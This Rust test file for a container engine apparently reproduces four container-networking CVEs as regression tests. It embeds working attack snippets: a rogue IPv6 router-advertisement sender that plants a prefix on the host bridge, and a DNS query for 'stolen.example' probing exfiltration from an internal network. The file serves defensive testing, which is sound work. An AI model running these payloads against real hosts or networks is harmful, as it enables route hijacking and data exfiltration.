//! What a container sends to the host's network, and what it asks there.

use std::fs;
use std::net::{Ipv6Addr, UdpSocket};

use crate::support::{Project, can_run_containers, eventually, needs_root};

const SERVICE: &str = "image: rcompose/host, stop_signal: SIGKILL";

/// Pretends to be a router: no way out through this machine, but addresses for everybody.
const ADVERTISE: &str = "import socket, struct, sys, time
link = socket.if_nametoindex('eth0')
def own():
    for line in open('/proc/net/if_inet6'):
        address, _, _, scope, _, name = line.split()
        if name == 'eth0' and scope == '20':
            return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(address))
router = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
router.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
for attempt in range(100):
    try:
        router.bind((own(), 0, 0, link))
        break
    except (OSError, TypeError):
        time.sleep(0.1)
prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 600, 600, 0) + socket.inet_pton(socket.AF_INET6, '2001:db8:bad::')
advertisement = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 0, 0, 0) + prefix
for attempt in range(5):
    print(router.sendto(advertisement, ('ff02::1', 0, 0, link)))
    time.sleep(0.1)
";

/// CVE-2020-13401: a container gives the host addresses and routes by router advertisements. Weakened: its bridge listens.
#[test]
fn a_container_is_no_router_of_the_host() {
    let test = "a_container_is_no_router_of_the_host";
    if !can_run_containers(test) || needs_root(test, "its bridges are not the host's") {
        return;
    }
    if UdpSocket::bind((Ipv6Addr::LOCALHOST, 0)).is_err() {
        println!("{test}: skipped: needs IPv6");
        return;
    }
    // The kernel listens to routers where it does not forward, and forwarding is for networks that lead out.
    for internal in [false, true] {
        let project = Project::new(&format!(
            "services: {{attacker: {{{SERVICE}, command: [sleep, '1000']}}}}\n\
             networks: {{default: {{enable_ipv6: true, internal: {internal}}}}}\n"
        ));
        project.run(&["up", "-d"]).ok();
        let network = format!("{}_default", project.name);
        let links = fs::read_dir("/sys/class/net").unwrap().map(|link| link.unwrap().path());
        let is_ours = |link: &std::path::PathBuf| {
            fs::read_to_string(link.join("ifalias")).is_ok_and(|alias| alias.trim() == network)
        };
        let bridge = links.into_iter().find(is_ours).unwrap();
        let bridge = bridge.file_name().unwrap().to_str().unwrap().to_owned();
        let attack = || {
            let sent = project.run(&["exec", "-T", "attacker", "python3", "-c", ADVERTISE]).ok();
            assert!(sent.out.contains("48"), "{}{}", sent.out, sent.err);
            let addresses = fs::read_to_string("/proc/net/if_inet6").unwrap();
            addresses.lines().any(|line| line.starts_with("20010db80bad") && line.ends_with(&bridge))
        };
        assert!(!attack(), "internal: {internal}");
        fs::write(format!("/proc/sys/net/ipv6/conf/{bridge}/accept_ra"), "2").unwrap();
        assert!(attack(), "internal: {internal}: the attack would not be seen to succeed");
        project.down();
    }
}

/// Plays the name server of the outside, asks for a name there, and says what it heard.
const ASK: &str = "import socket, struct
outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
outside.bind(('127.0.0.1', 53))
name = b''.join(bytes([len(label)]) + label for label in b'stolen.example'.split(b'.')) + b'\\0'
query = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('!HH', 1, 1)
asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asking.sendto(query, ('127.0.0.11', 53))
outside.settimeout(2)
try:
    print('heard' if b'stolen' in outside.recv(512) else 'what?')
except OSError:
    print('silence')
";

/// CVE-2024-29018: names carry data out of a network that leads nowhere. Weakened: it is none of that kind.
#[test]
fn names_do_not_lead_out_of_an_internal_network() {
    if !can_run_containers("names_do_not_lead_out_of_an_internal_network") {
        return;
    }
    for internal in [true, false] {
        let project = Project::new(&format!(
            "services: {{attacker: {{{SERVICE}, command: [sleep, '1000'], dns: [127.0.0.1]}}}}\n\
             networks: {{default: {{internal: {internal}}}}}\n"
        ));
        project.run(&["up", "-d"]).ok();
        let said = project.run(&["exec", "-T", "attacker", "python3", "-c", ASK]).ok().out;
        assert_eq!(said.trim(), if internal { "silence" } else { "heard" });
        project.down();
    }
}

/// CVE-2024-32473: a link of a network without IPv6 gets an address all the same, and can be reached by it past what was meant to
/// keep others out. Weakened: IPv6 is switched on for the link.
#[test]
fn a_container_without_ipv6_does_not_listen_to_it() {
    if !can_run_containers("a_container_without_ipv6_does_not_listen_to_it") {
        return;
    }
    let project = Project::new(&format!(
        "services:\n  victim: {{{SERVICE}, command: [sleep, '1000'], privileged: true, \
         networks: [four, both, later]}}\n  other: {{{SERVICE}, command: [sleep, '1000'], networks: [later]}}\n\
         networks:\n  four: {{internal: true}}\n  later: {{internal: true}}\n  both: {{internal: true, enable_ipv6: true}}\n"
    ));
    project.run(&["up", "-d"]).ok();
    // Once more, while it runs.
    let later = format!("{}_later", project.name);
    project.run(&["network", "disconnect", &later, "victim"]).ok();
    project.run(&["network", "connect", &later, "victim"]).ok();
    let inside = |script: &str| project.run(&["exec", "-T", "victim", "sh", "-c", script]).ok().out;
    // How many links have addresses of IPv6; the loopback and one more should.
    let listen = || {
        let table = inside("cat /proc/net/if_inet6");
        let links: std::collections::BTreeSet<_> =
            table.lines().filter_map(|line| line.split_whitespace().last()).collect();
        links.len()
    };
    if listen() == 0 {
        return println!("a_container_without_ipv6_does_not_listen_to_it: skipped: needs IPv6");
    }
    assert_eq!(listen(), 2, "{}", inside("cat /proc/net/if_inet6"));
    inside("for link in /proc/sys/net/ipv6/conf/eth*/disable_ipv6; do echo 0 > $link; done");
    assert_eq!(listen(), 4, "the attack would not be seen to succeed");
    project.down();
}

/// The engine's own listening TCP sockets in the host's network, by the port.
fn listening(project: &Project) -> Vec<u16> {
    let pids = ["keeper", "supervisor"].into_iter().flat_map(|role| project.role(role));
    let links = pids.flat_map(|pid| fs::read_dir(format!("/proc/{pid}/fd")).unwrap());
    let links: Vec<_> = links.filter_map(|link| fs::read_link(link.unwrap().path()).ok()).collect();
    let tables = ["/proc/net/tcp", "/proc/net/tcp6"].map(|table| fs::read_to_string(table).unwrap_or_default());
    let mut ports = Vec::new();
    for line in tables.iter().flat_map(|table| table.lines().skip(1)) {
        let words: Vec<_> = line.split_whitespace().collect();
        let socket = format!("socket:[{}]", words[9]);
        if words[3] == "0A" && links.iter().any(|link| link.as_os_str() == socket.as_str()) {
            ports.push(u16::from_str_radix(words[1].rsplit_once(':').unwrap().1, 16).unwrap());
        }
    }
    ports.dedup();
    ports
}

/// CVE-2025-9074: the engine can be told what to do over the network. Ours has nothing there but the ports that are published,
/// which are also what shows that a socket would be found.
#[test]
fn the_engine_does_not_listen_to_the_network() {
    let test = "the_engine_does_not_listen_to_the_network";
    if !can_run_containers(test) || needs_root(test, "its network is not the host's") {
        return;
    }
    let project = Project::new(&format!("services: {{idle: {{{SERVICE}, command: [sleep, '1000']}}}}\n"));
    project.run(&["up", "-d"]).ok();
    assert!(listening(&project).is_empty());
    let port = crate::support::free_port();
    project.write(
        "compose.yaml",
        &format!("services: {{idle: {{{SERVICE}, command: [sleep, '1000'], ports: ['{port}:80']}}}}\n"),
    );
    project.run(&["up", "-d"]).ok();
    eventually("the port is held", || (listening(&project) == [port]).then_some(()));
    project.down();
}
